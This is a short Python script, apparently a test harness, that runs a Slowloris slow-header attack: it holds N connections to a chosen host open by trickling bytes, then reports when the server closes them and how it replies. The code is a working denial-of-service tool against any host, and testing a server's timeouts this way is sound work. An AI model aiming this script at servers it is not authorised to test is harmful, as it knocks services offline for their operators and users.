#!/usr/bin/env python3
"""Slowloris: N connections each send the start of a request head, then one
byte every GAP seconds, until the server closes them (or LIMIT seconds).
Prints one line: how many were closed, the earliest and latest close (seconds
from the first byte) and the distinct first lines of what they were answered.

    slowloris.py HOST PORT N GAP LIMIT
"""
import select
import socket
import sys
import time


def main() -> None:
    host, port, n, gap, limit = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    conns = [socket.create_connection((host, port), timeout=10) for _ in range(n)]
    t0 = time.monotonic()
    for c in conns:
        c.sendall(b"GET /small.txt HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
    replies, closed_at, open_ = {}, {}, set(range(n))
    next_byte = t0 + gap
    while open_ and time.monotonic() < t0 + limit:
        if time.monotonic() >= next_byte:
            for i in list(open_):
                try:
                    conns[i].send(b"a")
                except OSError:
                    pass
            next_byte += gap
        p = select.poll()
        by_fd = {}
        for i in open_:
            p.register(conns[i], select.POLLIN)
            by_fd[conns[i].fileno()] = i
        for fd, _ in p.poll(100):
            i = by_fd[fd]
            try:
                d = conns[i].recv(65536)
            except OSError:
                d = b""
            if d:
                replies[i] = replies.get(i, b"") + d
            else:
                closed_at[i] = time.monotonic() - t0
                open_.discard(i)
    firsts = sorted({replies.get(i, b"").split(b"\r\n")[0].decode("latin-1") or "(nothing)" for i in closed_at})
    times = sorted(closed_at.values())
    print(f"{len(closed_at)} {times[0] if times else -1:.1f} {times[-1] if times else -1:.1f} {'; '.join(firsts)}")


if __name__ == "__main__":
    main()
